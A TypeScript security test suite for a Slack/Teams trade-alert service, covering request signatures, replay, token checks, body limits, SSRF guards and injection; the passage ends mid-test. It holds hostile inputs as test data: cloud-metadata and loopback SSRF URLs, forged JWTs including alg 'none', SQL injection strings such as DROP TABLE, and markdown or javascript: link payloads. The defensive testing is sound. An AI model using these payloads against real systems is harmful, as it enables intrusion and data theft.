// Issue 7 §4, the security review as tests, over real components: the service's own HTTP server on 127.0.0.1 with the
// real Slack and Teams handlers, real SQLite in a temporary folder, the real delivery adapters and the real CLI.
// Nothing reaches the internet: Slack, the Bot Connector and every receiver are fakes on the loopback interface, and
// host names that must resolve to hostile addresses go through an injected resolver (or /etc/hosts for `localhost`).
//
// Covered: Slack signatures (bad, stale, future, missing, replayed) and oversized bodies; Teams tokens (missing, bad,
// wrong audience) with an app id configured, and oversized bodies; SSRF on webhook, Workflows and feed URLs (after DNS
// resolution, on redirects, honouring URL_ALLOWLIST set explicitly); SQL/FTS5 syntax through `check`; Slack mrkdwn and
// Adaptive Card markdown injected through scraped text; CSV formula injection in `export`.
//
// Gaps these tests found, fixed with them: a replayed signed Slack request ran its command again (adapters/slack/verify.ts
// ReplayGuard, used by app.ts; in memory per process, so instances behind a load balancer do not share it), and feed
// URLs — `feed parse <url>` and feed sources — were fetched from any address and redirects followed anywhere (the
// polite client's `publicOnly` requests, used by fetchFeed, now pass the URL guard on the first URL and every redirect
// and connect only to the vetted addresses).
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, onTestFinished, vi } from 'vitest';
import { createHmac } from 'node:crypto';
import { createServer, request as httpRequest, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { openApp, type App } from '../src/app.js';
import { loadConfig } from '../src/config.js';
import { replayTimeline } from '../src/demo.js';
import { createMetrics } from '../src/metrics.js';
import { startHttp, type HttpService } from '../src/server.js';
import { check } from '../src/commands/check.js';
import { parseDestination } from '../src/alerts/destination.js';
import { DeliveryError } from '../src/alerts/types.js';
import type { Message } from '../src/alerts/message.js';
import type { LookupAll } from '../src/alerts/url-guard.js';
import { createAdapters } from '../adapters/registry.js';
import { startSlackService, type SlackService } from '../adapters/slack/index.js';
import type { SlackPayload } from '../adapters/slack/blocks.js';
import { payloadProblems } from '../adapters/slack/validate.js';
import { startTeamsService, type TeamsService } from '../adapters/teams/index.js';
import { cardProblems } from '../adapters/teams/validate.test-support.js';
import { listSubscriptions } from '../storage/subscriptions.js';
import { startFakeSlack, type FakeSlack, type FakeWorkspace } from './fakes/slack.js';
import { startFakeBotConnector, startFakeWorkflowReceiver, type FakeBotConnector } from './fakes/botconnector.js';
import { runCli, tempDir } from './helpers.js';

const SIGNING_SECRET = 'security-signing-secret-41c9e7';
const WS: FakeWorkspace = { teamId: 'T0SECURE', teamName: 'security-test', botToken: 'xoxb-9999-8888-securitybottoken', botUserId: 'U0BOT', botId: 'B0BOT' };
const MEMBER = 'U0MEMBER';
const CHANNEL = 'C0ALERTS';
const TENANT = '5b1e2c3d-4f50-4a6b-8c7d-9e0f1a2b3c4d';
const APP_ID = '0b5c7a1e-2d3f-4e5a-8b6c-7d8e9f0a1b2c';
const APP_PASSWORD = 'client-secret-value-security-77aa';
const SLACK_MAX_BODY = 1024 * 1024;
const TEAMS_MAX_BODY = 512 * 1024;

/** Scraped text an attacker controls (an entry name on a MOFCOM page): every kind of markup both platforms know. */
const HOSTILE_NAME =
  '<!channel> <!here> @everyone <@U0BOSS> <#C0SECRET> <http://evil.example|click me> [click](http://evil.example) ![x](http://evil.example/p.png) **bold** _i_ `code` # heading';
const HOSTILE_POINT = '> quoted\n- listed\n1. numbered <https://evil.example/x> &amp; [a](javascript:alert(1))';

let dir: ReturnType<typeof tempDir>;
let dbPath: string;
let app: App;
let logs: string[];

function freshApp(): void {
  dir = tempDir('exportwatch-security-');
  dbPath = join(dir.path, 'security.db');
  app = openApp({ databasePath: dbPath });
  replayTimeline(app);
  logs = [];
}

/** Puts attacker-controlled text into a stored entry, as a scraped page would (the key lookup finds it). */
function poisonEntry(key: string, name: string, points: string[]): void {
  const changed = app.db
    .prepare(`UPDATE entry_versions SET fields = json_set(fields, '$.name', ?, '$.controlPoints', json(?)) WHERE key = ? AND valid_to IS NULL`)
    .run(name, JSON.stringify(points), key).changes;
  expect(changed).toBe(1);
}

const notice = (title: string): Message => ({ title, severity: 'high', subtitle: 'MOFCOM 2026 No.96', links: [], sections: [], omitted: 0, context: [] });

function listen(server: Server, host = '127.0.0.1'): Promise<number> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, host, () => resolve((server.address() as AddressInfo).port));
  });
}

function close(server: Server): Promise<void> {
  return new Promise((resolve) => {
    server.closeAllConnections();
    server.close(() => resolve());
  });
}

/** A POST whose body is streamed in chunks (with Content-Length, or chunked), answered however the server likes. */
function postRaw(port: number, path: string, headers: Record<string, string>, size: number, chunked = false): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      { host: '127.0.0.1', port, path, method: 'POST', headers: { ...headers, ...(chunked ? {} : { 'content-length': String(size) }) } },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, text: Buffer.concat(chunks).toString('utf8') }));
      },
    );
    // The server may answer and close before the whole body is written: that is fine.
    req.on('error', (err: NodeJS.ErrnoException) => (err.code === 'EPIPE' || err.code === 'ECONNRESET' ? undefined : reject(err)));
    const chunk = Buffer.alloc(64 * 1024, 'a');
    let left = size;
    const pump = (): void => {
      while (left > 0) {
        const n = Math.min(left, chunk.length);
        left -= n;
        if (!req.write(chunk.subarray(0, n))) return void req.once('drain', pump);
      }
      req.end();
    };
    pump();
  });
}

// ---- Slack ----------------------------------------------------------------------------------------------------------

describe('Slack requests on /slack/events', () => {
  let slackApi: FakeSlack;
  let service: SlackService;
  let http: HttpService;
  let seq = 0;

  beforeEach(async () => {
    freshApp();
    slackApi = await startFakeSlack();
    slackApi.addWorkspace(WS);
    slackApi.addChannel({ id: CHANNEL, name: 'trade-compliance', members: [MEMBER, WS.botUserId] });
    const config = loadConfig({ DATABASE_PATH: dbPath, SLACK_SIGNING_SECRET: SIGNING_SECRET, SLACK_BOT_TOKEN: WS.botToken, SLACK_API_URL: slackApi.apiUrl });
    service = await startSlackService({ app, config: config.slack!, sources: [], log: (level, message) => logs.push(`${level} ${message}`) });
    http = await startHttp(app, [], createMetrics(), 0, '127.0.0.1', { handlers: [service.handle] });
  });

  afterEach(async () => {
    await http.close();
    await service.stop();
    await slackApi.close();
    app.close();
    dir.remove();
    const all = logs.join('\n');
    expect(all).not.toContain(SIGNING_SECRET);
    expect(all).not.toContain(WS.botToken);
  });

  function sign(body: string, ts = Math.floor(Date.now() / 1000), secret = SIGNING_SECRET): Record<string, string> {
    return { 'x-slack-request-timestamp': String(ts), 'x-slack-signature': `v0=${createHmac('sha256', secret).update(`v0:${ts}:${body}`).digest('hex')}` };
  }

  function slashBody(text: string): { body: string; id: string } {
    const id = `sec${++seq}`;
    const body = new URLSearchParams({
      team_id: WS.teamId,
      channel_id: CHANNEL,
      user_id: MEMBER,
      user_name: 'mei',
      command: '/exportwatch',
      text,
      api_app_id: 'A0FAKEAPP',
      response_url: slackApi.responseUrl(id),
      trigger_id: `trigger-${id}`,
    }).toString();
    return { body, id };
  }

  async function post(body: string, headers: Record<string, string>): Promise<{ status: number; text: string }> {
    const res = await fetch(`http://127.0.0.1:${http.port}/slack/events`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers },
      body,
    });
    return { status: res.status, text: await res.text() };
  }

  const settle = (ms = 150) => new Promise((r) => setTimeout(r, ms));

  it('refuses bad, stale, future, missing and malformed signatures with 401 and runs nothing', async () => {
    const now = Math.floor(Date.now() / 1000);
    const cases: Array<[string, (body: string) => Record<string, string>]> = [
      ['signed with another secret', (b) => sign(b, now, 'not-the-secret')],
      ['signature of another body', () => sign('text=subscribe+everything', now)],
      // A few seconds past the five minutes, counted when each request is sent (a second may tick over meanwhile).
      ['stale by 5 min 3 s', (b) => sign(b, Math.floor(Date.now() / 1000) - 303)],
      ['stale by a day', (b) => sign(b, now - 86_400)],
      ['future by 5 min 3 s', (b) => sign(b, Math.floor(Date.now() / 1000) + 303)],
      ['missing both headers', () => ({})],
      ['missing signature', (b) => ({ 'x-slack-request-timestamp': sign(b)['x-slack-request-timestamp']! })],
      ['missing timestamp', (b) => ({ 'x-slack-signature': sign(b)['x-slack-signature']! })],
      ['v1 scheme', (b) => ({ ...sign(b), 'x-slack-signature': sign(b)['x-slack-signature']!.replace('v0=', 'v1=') })],
      ['truncated signature', (b) => ({ ...sign(b), 'x-slack-signature': sign(b)['x-slack-signature']!.slice(0, 40) })],
      ['timestamp with a fraction', (b) => ({ ...sign(b), 'x-slack-request-timestamp': `${now}.5` })],
      ['negative timestamp', (b) => ({ ...sign(b), 'x-slack-request-timestamp': '-1' })],
    ];
    for (const [name, headers] of cases) {
      const { body, id } = slashBody('subscribe rare-earths');
      const res = await post(body, headers(body));
      expect(res.status, name).toBe(401);
      expect(slackApi.responsesTo(id), name).toEqual([]);
    }
    await settle();
    expect(slackApi.responses).toEqual([]);
    expect(listSubscriptions(app.db)).toEqual([]);
    expect(logs.filter((l) => l.includes('rejected POST /slack/events'))).toHaveLength(cases.length);
    expect(logs.join('\n')).not.toContain('rare-earths');
  });

  it('runs a validly signed state-changing command once: a replay of the same signed request within the window is refused', async () => {
    const { body, id } = slashBody('subscribe rare-earths');
    const headers = sign(body);
    expect((await post(body, headers)).status).toBe(200);
    await slackApi.waitFor(() => slackApi.responsesTo(id)[0]);
    expect(listSubscriptions(app.db).map((s) => s.topics)).toEqual([['rare-earths']]);

    // Someone who captured the request (a proxy log, a leaked HAR) sends it again, byte for byte, twice.
    const subscriptionsBefore = JSON.stringify(listSubscriptions(app.db));
    for (let i = 0; i < 2; i++) expect((await post(body, headers)).status).toBe(401);
    await settle();
    expect(slackApi.responsesTo(id)).toHaveLength(1);
    expect(JSON.stringify(listSubscriptions(app.db))).toBe(subscriptionsBefore);
    expect(logs.filter((l) => /rejected POST \/slack\/events.*replay/.test(l))).toHaveLength(2);

    // A replay after an unsubscribe would re-subscribe the channel: refused as well.
    const un = slashBody('unsubscribe rare-earths');
    expect((await post(un.body, sign(un.body))).status).toBe(200);
    await slackApi.waitFor(() => slackApi.responsesTo(un.id)[0]);
    expect(listSubscriptions(app.db)).toEqual([]);
    expect((await post(body, headers)).status).toBe(401);
    await settle();
    expect(listSubscriptions(app.db)).toEqual([]);

    // A new request with the same text (new timestamp, new signature) is served as usual.
    const again = slashBody('subscribe rare-earths');
    const later = Math.floor(Date.now() / 1000) + 1;
    expect((await post(again.body, sign(again.body, later))).status).toBe(200);
    await slackApi.waitFor(() => slackApi.responsesTo(again.id)[0]);
    expect(listSubscriptions(app.db).map((s) => s.topics)).toEqual([['rare-earths']]);
  });

  it('answers 413 to a body over 1 MiB, signed or not, with or without Content-Length, and runs nothing', async () => {
    const big = `text=${'a'.repeat(SLACK_MAX_BODY)}`;
    expect((await post(big, sign(big))).status).toBe(413);
    expect((await postRaw(http.port, '/slack/events', { 'content-type': 'application/x-www-form-urlencoded' }, SLACK_MAX_BODY + 1)).status).toBe(413);
    expect((await postRaw(http.port, '/slack/events', { 'content-type': 'application/x-www-form-urlencoded' }, 3 * SLACK_MAX_BODY, true)).status).toBe(413);
    expect(logs.filter((l) => /rejected POST \/slack\/events.*body over 1 MiB/.test(l))).toHaveLength(3);
    // Just under the limit: read, then judged on its signature (bad here).
    expect((await postRaw(http.port, '/slack/events', { 'content-type': 'application/x-www-form-urlencoded' }, SLACK_MAX_BODY)).status).toBe(401);
    // The service still answers afterwards.
    const { body, id } = slashBody('help');
    expect((await post(body, sign(body))).status).toBe(200);
    await slackApi.waitFor(() => slackApi.responsesTo(id)[0]);
  });

  it('never lets scraped text act as mrkdwn: no broadcast, mention or foreign link reaches the rendered blocks', async () => {
    poisonEntry('053302J', HOSTILE_NAME, [HOSTILE_POINT]);
    for (const text of ['check 053302J', 'item 053302J']) {
      const { body, id } = slashBody(text);
      expect((await post(body, sign(body))).status).toBe(200);
      const answer = (await slackApi.waitFor(() => slackApi.responsesTo(id)[0])).body as unknown as SlackPayload;
      expect(JSON.stringify(answer.blocks), text).toContain('053302J');
      expect(payloadProblems(answer), text).toEqual([]);
      // Slack reads markup only in mrkdwn (plain_text headers and buttons show it as written).
      const mrkdwn: string[] = [];
      const walk = (v: unknown): void => {
        if (Array.isArray(v)) v.forEach(walk);
        else if (v && typeof v === 'object') {
          const node = v as Record<string, unknown>;
          if (node.type === 'mrkdwn' && typeof node.text === 'string') mrkdwn.push(node.text);
          if (typeof node.url === 'string') expect(node.url, text).not.toMatch(/evil\.example/);
          Object.values(node).forEach(walk);
        }
      };
      walk(answer.blocks);
      const json = mrkdwn.join('\n');
      for (const raw of ['<!channel>', '<!here>', '<@U0BOSS>', '<#C0SECRET>', '<http://evil.example', '<https://evil.example'])
        expect(json, text).not.toContain(raw);
      expect(json, text).not.toMatch(/@(channel|here|everyone)\b/);
      // Shown as text, escaped.
      expect(json, text).toContain('&lt;!channel&gt;');
      expect(json, text).toContain('&lt;http://evil.example|click me&gt;');
    }
  });
});

// ---- Teams ----------------------------------------------------------------------------------------------------------

describe('Teams requests on /api/messages', () => {
  let connector: FakeBotConnector;
  let service: TeamsService;
  let http: HttpService;
  let seq = 0;

  async function start(env: NodeJS.ProcessEnv, authenticated: boolean): Promise<void> {
    const config = loadConfig({ DATABASE_PATH: dbPath, TEAMS_TIMEOUT_MS: '2000', ...env });
    service = startTeamsService({
      app,
      config: config.teams!,
      sources: [],
      log: (level, message) => logs.push(`${level} ${message}`),
      testing: authenticated
        ? { openIdMetadataUrl: connector.openIdMetadataUrl, outboundToken: 'outbound-token-security', allowLoopbackServiceUrl: true }
        : { allowLoopbackServiceUrl: true },
    });
    http = await startHttp(app, [], createMetrics(), 0, '127.0.0.1', { handlers: [service.handle] });
  }

  beforeEach(async () => {
    freshApp();
    connector = await startFakeBotConnector();
    // botbuilder prints some rejected tokens with console.error itself.
    const quiet = vi.spyOn(console, 'error').mockImplementation(() => undefined);
    onTestFinished(() => quiet.mockRestore());
  });

  afterEach(async () => {
    await http.close();
    await service.stop();
    await connector.close();
    app.close();
    dir.remove();
    for (const card of connector.cards()) expect(cardProblems(card)).toEqual([]);
    expect(logs.join('\n')).not.toContain(APP_PASSWORD);
  });

  function personalMessage(text: string): Record<string, unknown> {
    return {
      id: `f:sec-${++seq}`,
      type: 'message',
      channelId: 'msteams',
      serviceUrl: connector.serviceUrl,
      timestamp: new Date().toISOString(),
      from: { id: '29:1mei', name: 'Mei Lin', aadObjectId: '6f1c1d5e-0000-4000-8000-00000000aaaa' },
      recipient: { id: `28:${APP_ID}`, name: 'ExportWatch' },
      conversation: { id: 'a:1personal-security', conversationType: 'personal', tenantId: TENANT },
      channelData: { tenant: { id: TENANT } },
      text,
      textFormat: 'plain',
    };
  }

  async function post(activity: Record<string, unknown> | string, headers: Record<string, string> = {}): Promise<number> {
    const res = await fetch(`http://127.0.0.1:${http.port}/api/messages`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...headers },
      body: typeof activity === 'string' ? activity : JSON.stringify(activity),
    });
    await res.text();
    return res.status;
  }

  const authEnv = { MICROSOFT_APP_ID: APP_ID, MICROSOFT_APP_PASSWORD: APP_PASSWORD, MICROSOFT_APP_TENANT_ID: TENANT, MICROSOFT_APP_TYPE: 'SingleTenant' };

  it('with an app id, refuses missing, bad and wrong-audience tokens with 401, and oversized bodies with 413', async () => {
    await start(authEnv, true);
    const now = Math.floor(Date.now() / 1000);
    const claims = { iss: 'https://api.botframework.com', aud: APP_ID, serviceurl: connector.serviceUrl, nbf: now - 60, exp: now + 3600 };
    const good = `Bearer ${connector.sign(claims)}`;
    const unsigned = (c: Record<string, unknown>) =>
      `${Buffer.from(JSON.stringify({ alg: 'none', typ: 'JWT' })).toString('base64url')}.${Buffer.from(JSON.stringify(c)).toString('base64url')}.`;
    const cases: Array<[string, Record<string, string>]> = [
      ['missing', {}],
      ['empty bearer', { authorization: 'Bearer ' }],
      ['garbage', { authorization: 'Bearer abc.def.ghi' }],
      ['alg none', { authorization: `Bearer ${unsigned(claims)}` }],
      ['signed with a key the channel does not publish', { authorization: `Bearer ${connector.sign(claims, { wrongKey: true })}` }],
      ['another app (wrong audience)', { authorization: `Bearer ${connector.sign({ ...claims, aud: '99999999-9999-4999-8999-999999999999' })}` }],
      ['no audience', { authorization: `Bearer ${connector.sign({ ...claims, aud: undefined })}` }],
      ['audience of the Bot Framework itself', { authorization: `Bearer ${connector.sign({ ...claims, aud: 'https://api.botframework.com' })}` }],
      ['not yet valid', { authorization: `Bearer ${connector.sign({ ...claims, nbf: now + 3600, exp: now + 7200 })}` }],
      ['a good token as a cookie', { cookie: `authorization=${good}` }],
    ];
    for (const [name, headers] of cases) expect(await post(personalMessage('subscribe rare-earths'), headers), name).toBe(401);
    expect(connector.activities).toEqual([]);
    expect(listSubscriptions(app.db)).toEqual([]);
    expect(logs.filter((l) => l.includes('rejected POST /api/messages'))).toHaveLength(cases.length);

    // Oversized: 413 before any token is looked at, with a good token too, declared or streamed.
    const padded = JSON.stringify({ ...personalMessage('help'), padding: 'x'.repeat(TEAMS_MAX_BODY) });
    expect(await post(padded, { authorization: good })).toBe(413);
    expect(await post(padded)).toBe(413);
    expect((await postRaw(http.port, '/api/messages', { 'content-type': 'application/json', authorization: good }, 4 * TEAMS_MAX_BODY, true)).status).toBe(413);
    expect(connector.activities).toEqual([]);

    // The same activity with a good token is served.
    expect(await post(personalMessage('help'), { authorization: good })).toBe(200);
    await connector.waitFor(() => connector.activities[0]);
  });

  it('never lets scraped text act as card markdown: no link, image or formatting from an entry name reaches a card', async () => {
    await start({ TEAMS_ALLOW_UNAUTHENTICATED: 'true' }, false);
    poisonEntry('053302J', HOSTILE_NAME, [HOSTILE_POINT]);
    for (const text of ['check 053302J', 'item 053302J']) {
      const before = connector.activities.length;
      expect(await post(personalMessage(text))).toBe(200);
      const reply = await connector.waitFor(() => connector.activities[before]);
      const cards = (reply.activity.attachments as Array<{ content: unknown }>).map((a) => a.content);
      const texts: string[] = [];
      const walk = (v: unknown): void => {
        if (Array.isArray(v)) v.forEach(walk);
        else if (v && typeof v === 'object') {
          const node = v as Record<string, unknown>;
          if (typeof node.text === 'string') texts.push(node.text);
          if (typeof node.url === 'string') expect(node.url, text).not.toMatch(/evil\.example|javascript:/);
          Object.values(node).forEach(walk);
        }
      };
      walk(cards);
      const all = texts.join('\n');
      expect(all, text).toContain('053302J');
      // The attacker's link and image syntax appear only escaped (`\[` `\]`, `!\[`), never as markdown.
      expect(all, text).not.toMatch(/(?<!\\)\[click|(?<!\\)\]\(http:\/\/evil/);
      expect(all, text).not.toMatch(/!\[x\]\(/);
      expect(all, text).not.toMatch(/(?<!\\)\*\*bold(?<!\\)\*\*/);
      expect(all, text).not.toMatch(/(?<!\\)\]\(javascript:/);
      expect(all, text).toContain('\\[click\\]');
      for (const card of cards) expect(cardProblems(card)).toEqual([]);
    }
  });
});

// ---- SSRF -----------------------------------------------------------------------------------------------------------

describe('SSRF: outbound URLs given by operators', () => {
  let hits: string[];
  let receiver: Server;
  let port: number;

  beforeAll(async () => {
    hits = [];
    receiver = createServer((req: IncomingMessage, res) => {
      hits.push(`${req.method} ${req.url}`);
      req.resume();
      if (req.url?.startsWith('/redirect')) return void res.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
      res.writeHead(200, { 'content-type': 'application/json' }).end('{"id":"ok"}');
    });
    port = await listen(receiver);
  });
  afterAll(() => close(receiver));
  beforeEach(() => void (hits = []));

  /** A resolver for names that point at hostile addresses (what a rebinding or malicious DNS zone does). */
  const zone: Record<string, string[]> = {
    'loopback.attacker.test': ['127.0.0.1'],
    'private.attacker.test': ['10.1.2.3'],
    'rfc1918.attacker.test': ['192.168.1.10'],
    'linklocal.attacker.test': ['169.254.10.10'],
    'metadata.attacker.test': ['169.254.169.254'],
    'v6loop.attacker.test': ['::1'],
    'v6ula.attacker.test': ['fd12:3456::1'],
    'mapped.attacker.test': ['::ffff:127.0.0.1'],
    'mixed.attacker.test': ['93.184.216.34', '10.0.0.1'],
    'public.example.test': ['93.184.216.34'],
  };
  const lookup: LookupAll = async (host) => {
    const addresses = zone[host];
    if (!addresses) throw Object.assign(new Error(`ENOTFOUND ${host}`), { code: 'ENOTFOUND' });
    return addresses.map((address) => ({ address, family: address.includes(':') ? 6 : 4 }));
  };

  async function send(destination: string, env: NodeJS.ProcessEnv, withLookup = true): Promise<DeliveryError | { messageId: string }> {
    const adapters = createAdapters({ env: { WEBHOOK_SECRET: 'webhook-secret-security', ...env }, ...(withLookup ? { lookup } : {}) });
    const d = parseDestination(destination);
    try {
      return await adapters[d.platform]!.send(d, notice('🟠 New MOFCOM notice'), { idempotencyKey: `k-${Math.random()}` });
    } catch (err) {
      expect(err).toBeInstanceOf(DeliveryError);
      return err as DeliveryError;
    }
  }

  it('refuses webhook and Workflows URLs that resolve to loopback, private, link-local or metadata addresses, unless allowlisted', async () => {
    const hostile = [
      `http://127.0.0.1:${port}/hook`,
      `http://localhost:${port}/hook`, // resolved by the system resolver (/etc/hosts)
      `http://[::1]:${port}/hook`,
      `http://[::ffff:127.0.0.1]:${port}/hook`,
      `http://0.0.0.0:${port}/hook`,
      `http://2130706433:${port}/hook`, // 127.0.0.1 as one number
      `http://0x7f.1:${port}/hook`,
      'http://169.254.169.254/latest/meta-data/',
      'http://[fd00:ec2::254]/latest/meta-data/',
      'http://10.0.0.8/hook',
      'http://172.16.9.9/hook',
      'http://192.168.0.1/hook',
      'http://100.64.0.1/hook',
      ...Object.keys(zone)
        .filter((h) => h.includes('attacker'))
        .map((h) => `http://${h}:${port}/hook`),
    ];
    for (const url of hostile) {
      for (const platform of ['webhook', 'teams-workflow']) {
        const u = platform === 'teams-workflow' ? url.replace(/^http:/, 'https:') : url;
        const r = await send(`${platform}:${u}`, { URL_ALLOWLIST: '' }, !/localhost/.test(u));
        expect(r, `${platform} ${u}`).toBeInstanceOf(DeliveryError);
        expect((r as DeliveryError).message, `${platform} ${u}`).toMatch(/refusing to call .*(loopback|private|link-local|metadata|unspecified|shared)/);
        expect((r as DeliveryError).retryable, u).toBe(false);
      }
    }
    expect(hits).toEqual([]);

    // Explicitly allowlisted (address, CIDR or host name): delivered.
    for (const [allow, url] of [
      ['127.0.0.1', `http://127.0.0.1:${port}/hook`],
      ['127.0.0.0/8', `http://127.0.0.1:${port}/hook`],
      ['loopback.attacker.test', `http://loopback.attacker.test:${port}/hook`],
    ] as const) {
      expect(await send(`webhook:${url}`, { URL_ALLOWLIST: allow }), allow).toEqual({ messageId: 'ok' });
    }
    expect(hits).toHaveLength(3);
    // Allowlisting one address does not open the others.
    expect(await send(`webhook:http://10.0.0.8/hook`, { URL_ALLOWLIST: '127.0.0.1' })).toBeInstanceOf(DeliveryError);
    expect(await send(`webhook:http://metadata.attacker.test/`, { URL_ALLOWLIST: '127.0.0.1' })).toBeInstanceOf(DeliveryError);

    // A Workflows receiver on loopback: refused without, delivered with URL_ALLOWLIST.
    const wf = await startFakeWorkflowReceiver();
    try {
      const d = parseDestination(`teams-workflow:${wf.baseUrl}/workflows/x/triggers/manual/paths/invoke?sig=s3cr3t-sig-value`);
      const refused = createAdapters({ env: { URL_ALLOWLIST: '' }, teamsWorkflow: { ca: wf.ca } });
      await expect(refused['teams-workflow']!.send(d, notice('x'), { idempotencyKey: 'a' })).rejects.toThrow(/loopback/);
      const allowed = createAdapters({ env: { URL_ALLOWLIST: '127.0.0.1' }, teamsWorkflow: { ca: wf.ca } });
      await allowed['teams-workflow']!.send(d, notice('x'), { idempotencyKey: 'b' });
      expect(wf.posts).toHaveLength(1);
    } finally {
      await wf.close();
    }
  });

  it('does not follow a webhook redirect (to the metadata address or anywhere)', async () => {
    const r = await send(`webhook:http://127.0.0.1:${port}/redirect`, { URL_ALLOWLIST: '127.0.0.1' });
    expect(r).toBeInstanceOf(DeliveryError);
    expect((r as DeliveryError).message).toMatch(/302 \(redirects are not followed/);
    expect(hits).toEqual(['POST /redirect']);
  });
});

describe('SSRF: feed URLs (`feed parse <url>` and feed sources)', () => {
  const FEED = `<?xml version="1.0"?><rss version="2.0"><channel><title>Trade news</title><link>https://news.example/</link>
<item><title>Rare earth export rules</title><link>https://news.example/a</link><guid>a</guid><pubDate>Mon, 02 Nov 2026 08:00:00 GMT</pubDate></item>
</channel></rss>`;
  let hits: string[];
  let inside: Server;
  let insidePort: number;
  let feedServer: Server;
  let feedPort: number;

  beforeAll(async () => {
    hits = [];
    // "Internal" service on another loopback address: must never be reached unless allowlisted.
    inside = createServer((req, res) => {
      hits.push(`inside ${req.url}`);
      res.writeHead(200, { 'content-type': 'application/rss+xml' }).end(FEED);
    });
    insidePort = await listen(inside, '127.0.0.2');
    feedServer = createServer((req, res) => {
      hits.push(`feed ${req.url}`);
      if (req.url === '/to-inside') return void res.writeHead(302, { location: `http://127.0.0.2:${insidePort}/secret.xml` }).end();
      if (req.url === '/to-metadata') return void res.writeHead(301, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
      if (req.url === '/to-v6-loopback') return void res.writeHead(307, { location: `http://[::1]:${insidePort}/secret.xml` }).end();
      res.writeHead(200, { 'content-type': 'application/rss+xml' }).end(FEED);
    });
    feedPort = await listen(feedServer);
  });
  afterAll(async () => {
    await close(inside);
    await close(feedServer);
  });
  beforeEach(() => {
    freshApp();
    hits = [];
  });
  afterEach(() => {
    app.close();
    dir.remove();
  });

  const base = () => ({ DATABASE_PATH: dbPath, HTTP_DELAY_MS: '0', HTTP_RETRIES: '0', HTTP_TIMEOUT_MS: '2000' });
  const parse = (url: string, allow: string) => runCli(['feed', 'parse', url, '--json'], { ...base(), URL_ALLOWLIST: allow });

  it('refuses a feed URL on a loopback, private or metadata address unless allowlisted, checking every redirect', async () => {
    for (const url of [
      `http://127.0.0.1:${feedPort}/feed.xml`,
      `http://localhost:${feedPort}/feed.xml`,
      'http://169.254.169.254/latest/meta-data/',
      'http://10.9.9.9/feed',
    ]) {
      const r = await parse(url, '');
      expect(r.code, url).not.toBe(0);
      expect(r.stderr, url).toMatch(/refusing to call .*(loopback|private|link-local|metadata).*URL_ALLOWLIST/);
    }
    expect(hits).toEqual([]);

    const ok = await parse(`http://127.0.0.1:${feedPort}/feed.xml`, '127.0.0.1');
    expect(ok.code, ok.stderr).toBe(0);
    expect(JSON.parse(ok.stdout).items).toHaveLength(1);
    expect(hits).toEqual(['feed /feed.xml']);

    // An allowlisted feed redirecting somewhere that is not: refused before any connection to it.
    for (const path of ['/to-inside', '/to-metadata', '/to-v6-loopback']) {
      hits = [];
      const r = await parse(`http://127.0.0.1:${feedPort}${path}`, '127.0.0.1');
      expect(r.code, path).not.toBe(0);
      expect(r.stderr, path).toMatch(/refusing to call .*(loopback|link-local|metadata)/);
      expect(hits, path).toEqual([`feed ${path}`]);
    }
    // Both allowlisted: the redirect is followed.
    hits = [];
    const both = await parse(`http://127.0.0.1:${feedPort}/to-inside`, '127.0.0.1,127.0.0.2');
    expect(both.code, both.stderr).toBe(0);
    expect(hits).toEqual(['feed /to-inside', 'inside /secret.xml']);
  });

  it('a feed source pointing at a loopback address fails its poll with the reason, and is polled once allowlisted', async () => {
    const sources = join(dir.path, 'sources.json');
    writeFileSync(sources, JSON.stringify({ sources: [{ id: 'sneaky-feed', kind: 'feed', url: `http://127.0.0.2:${insidePort}/secret.xml`, every: '1h' }] }));
    const env = { ...base(), SOURCES_FILE: sources, URL_ALLOWLIST: '' };
    await runCli(['poll', '--once', '--json'], env);
    expect(hits).toEqual([]);
    const status = await runCli(['status', '--json'], env);
    expect(status.stdout).toMatch(/refusing to call 127\.0\.0\.2: loopback address/);
    await runCli(['poll', '--once', '--json'], { ...env, URL_ALLOWLIST: '127.0.0.2' });
    expect(hits).toEqual(['inside /secret.xml']);
  });
});

// ---- injection --------------------------------------------------------------------------------------------------------

describe('injection', () => {
  beforeEach(() => freshApp());
  afterEach(() => {
    app.close();
    dir.remove();
  });

  it('treats SQL and FTS5 syntax in `check` as text: no error, no syntax honoured, the store intact', async () => {
    const count = () => (app.db.prepare('SELECT count(*) AS n FROM entry_versions').get() as { n: number }).n;
    const before = count();
    const plain = check(app, '稀土').results.map((r) => r.key);
    expect(plain.length).toBeGreaterThan(0);
    const hostile = [
      `"`,
      `""""`,
      `稀土"`,
      `"稀土`,
      `'; DROP TABLE entry_versions; --`,
      `稀土' OR '1'='1`,
      `1 UNION SELECT * FROM slack_installations`,
      `NEAR(稀土 技术, 2)`,
      `稀土 NEAR 技术`,
      `*`,
      `稀*`,
      `稀土*`,
      `(`,
      `)`,
      `((稀土)`,
      `name_text:稀土`,
      `point_text : 稀土`,
      `{name_text point_text}: 稀土`,
      `entry_search:稀土`,
      `key:*`,
      `- 稀土`,
      `^稀土`,
      `稀土 AND`,
      `OR 稀土`,
      `NOT`,
      `稀土 NOT 技术`,
      `+`,
      `\\`,
      `%`,
      `_`,
      `\u0000稀土`,
      `rowid = 1`,
      `稀土 ${'('.repeat(500)}`,
    ];
    for (const q of hostile) {
      let answer: ReturnType<typeof check> | undefined;
      try {
        answer = check(app, q);
      } catch (err) {
        // Only the grammar's own clear refusals, never SQLite's.
        expect((err as Error).message, q).toMatch(/^the query (is longer than|is empty|has nothing)/);
        continue;
      }
      // Words in the query are searched as words; operators and column filters are not honoured.
      if (/稀土/.test(q) && !/NOT|-|\^/.test(q)) expect(answer!.results.length, q).toBeGreaterThan(0);
    }
    // A column filter is just the word "name_text" plus the term: the same answers as the plain term, never fewer.
    expect(check(app, 'name_text:稀土').results.map((r) => r.key)).toEqual(expect.arrayContaining(plain.slice(0, 1)));
    expect(check(app, '*').results).toEqual([]);
    expect(count()).toBe(before);
